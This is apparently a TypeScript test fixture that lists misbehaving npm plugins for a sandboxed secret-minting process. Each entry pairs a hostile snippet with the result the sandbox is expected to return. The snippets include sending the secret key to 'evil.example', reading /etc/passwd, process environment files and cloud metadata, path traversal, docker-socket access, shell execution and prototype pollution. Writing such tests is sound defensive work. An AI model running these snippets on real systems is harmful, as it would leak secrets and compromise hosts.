/** npm packages that misbehave when they are asked to mint, in a process of their own. `key` is a secret that they were given, `base` the folder of the test. */
import type { Hostile } from "./hostile-programs.ts";

const unexpected = (what: RegExp) => ({ code: "FAILED", retryable: false, message: what });
const denied = unexpected(/ERR_ACCESS_DENIED|access to this API has been restricted|permission/i);

/** What it does, and what becomes of the call. */
export const hostilePackages: readonly Hostile[] = [
  ["throws a text", `throw "a text with " + key;`, unexpected(/string/)],
  ["throws nothing", `throw undefined;`, unexpected(/undefined/)],
  ["throws an error with a secret", `throw new Error("key " + key);`, unexpected(/unexpected error/)],
  ["throws what only looks like our error", `throw { name: "RotateError", code: "DENIED", message: "x" };`, {}],
  ["never settles", `await new Promise(() => {});`, { code: "TIMEOUT" }, { limit: 1500 }],
  ["spins", `for (;;);`, { code: "TIMEOUT" }, { limit: 1500 }],
  [
    "prints a frame",
    `console.log(JSON.stringify({ id: 1, ok: { fields: {}, expires: "never" } })); return minted;`,
    "minted",
  ],
  ["prints a secret", `console.log("key " + key); console.error("key " + key); return minted;`, "minted"],
  ["logs a secret", `ctx.log.warn("key " + key, { key }); return minted;`, "minted"],
  ["floods the log", `for (let i = 0; i < 20000; i++) ctx.log.info("x".repeat(100)); return minted;`, "minted"],
  [
    "writes frames of its own past the host",
    `fs.writeSync(3, JSON.stringify({ id: 999, ok: 1 }) + "\\n"); return minted;`,
    { code: "BAD_ANSWER" },
  ],
  ["writes nonsense past the host", `fs.writeSync(3, "nonsense\\n"); return minted;`, { code: "BAD_ANSWER" }],
  [
    "asks past the host for what is nothing",
    `fs.writeSync(3, JSON.stringify({ ask: 1, for: 1, call: "constructor" }) + "\\n"); await new Promise(() => {});`,
    {},
    { limit: 1500 },
  ],
  ["ends its process", `process.exit(0);`, { code: "FAILED", message: /ended without an answer/ }],
  ["aborts its process", `process.abort();`, { code: "FAILED" }],
  [
    "throws later, from a timer",
    `setTimeout(() => { throw new Error("later"); }, 0); await new Promise(() => {});`,
    { code: "FAILED" },
  ],
  [
    "leaves a rejection unhandled",
    `void Promise.reject(new Error("nobody")); await new Promise(() => {});`,
    { code: "FAILED" },
  ],
  ["has a handle that ends nowhere", `const handle = {}; handle.self = handle; return { ...minted, handle };`, {}],
  ["has a handle of a function", `return { ...minted, handle: () => 1 };`, "minted"],
  [
    "has a handle with __proto__",
    `return { ...minted, handle: JSON.parse('{"__proto__":{"x":1}}') };`,
    { code: "BAD_ANSWER" },
  ],
  ["has a handle with constructor", `return { ...minted, handle: { constructor: 1 } };`, { code: "BAD_ANSWER" }],
  ["has an end that is NaN", `return { ...minted, expires: { in: NaN } };`, { code: "BAD_ANSWER" }],
  ["has an end at no time", `return { ...minted, expires: new Date(NaN) };`, {}],
  ["mints a number", `return { ...minted, fields: { token: 7 } };`, {}],
  ["mints 2 MiB", `return { ...minted, fields: { token: "x".repeat(2 ** 21) } };`, { code: "BAD_ANSWER" }],
  [
    "takes more heap than it may",
    `const all = []; for (;;) all.push(new Array(1e5).fill(all.length));`,
    { code: "FAILED" },
  ],
  ["spoils Object.prototype", `Object.prototype.code = "OK"; return minted;`, "minted"],
  ["writes a file", `fs.writeFileSync(base + "/written", key);`, denied],
  ["reads a file", `return { ...minted, handle: { text: fs.readFileSync("/etc/passwd", "utf8") } };`, denied],
  ["reads the lock", `return { ...minted, handle: { text: fs.readFileSync(base + "/rotate.lock", "utf8") } };`, denied],
  [
    "reads our environment",
    `return { ...minted, handle: { text: fs.readFileSync("/proc/" + process.ppid + "/environ", "utf8") } };`,
    denied,
  ],
  ["looks what is there", `return { ...minted, handle: fs.readdirSync("/") };`, denied],
  ["makes a link", `fs.symlinkSync("/etc/passwd", base + "/link");`, denied],
  [
    "forks a child that leaves the group",
    `(await import("node:child_process")).spawn("sleep", ["600"], { detached: true });`,
    denied,
  ],
  ["starts a worker", `new (await import("node:worker_threads")).Worker("1", { eval: true });`, denied],
  ["loads an addon", `process.dlopen({ exports: {} }, base + "/x.node");`, { code: "FAILED" }],
  ["opens a database anywhere", `await import("node:sqlite");`, unexpected(/sqlite/)],
  ["kills who started it", `process.kill(process.ppid, "SIGTERM");`, unexpected(/not a function/)],
  ["opens our inspector", `process._debugProcess(process.ppid);`, unexpected(/not a function/)],
  ["imports a module from outside", `await import(base + "/outside.mjs");`, { code: "FAILED" }],
  [
    "asks a host that it did not declare",
    `await ctx.http("https://evil.example/", { method: "POST", body: key });`,
    { code: "INVALID", message: /evil\.example/ },
  ],
  ["asks the cloud's metadata", `await ctx.http("http://169.254.169.254/latest/");`, { code: "INVALID" }],
  [
    "asks over a socket of this machine",
    `await ctx.http("http://localhost/", { socketPath: "/var/run/docker.sock" });`,
    { code: "INVALID", message: /socketPath/ },
  ],
  ["runs a command that it did not declare", `await ctx.exec(["sh", "-c", "id"]);`, { code: "INVALID" }],
  ["reads a file through us", `await ctx.readFile("/etc/passwd");`, { code: "INVALID", message: /may not read/ }],
  ["reads a file through us, by dots", `await ctx.readFile(base + "/../../etc/passwd");`, { code: "INVALID" }],
  [
    "asks for more than may be asked for at once",
    `await Promise.all(Array.from({ length: 500 }, () => ctx.sleep(60000)));`,
    { code: "TIMEOUT" },
    { limit: 1500 },
  ],
  [
    "has a secret in its hint",
    `throw new RotateError("no", { code: "DENIED", retryable: false, hint: "key " + key });`,
    { code: "DENIED" },
  ],
  [
    "listens on a port",
    `const { createServer } = await import("node:net"); const server = createServer(); await new Promise((yes, no) => server.on("error", no).listen(0, yes)); server.close(); return minted;`,
    { code: "FAILED" },
    { node: 25 },
  ],
  [
    "speaks to somebody by itself",
    `const answer = await fetch("http://127.0.0.1:9/"); return { ...minted, handle: answer.status };`,
    { code: "FAILED" },
    { node: 25 },
  ],
];
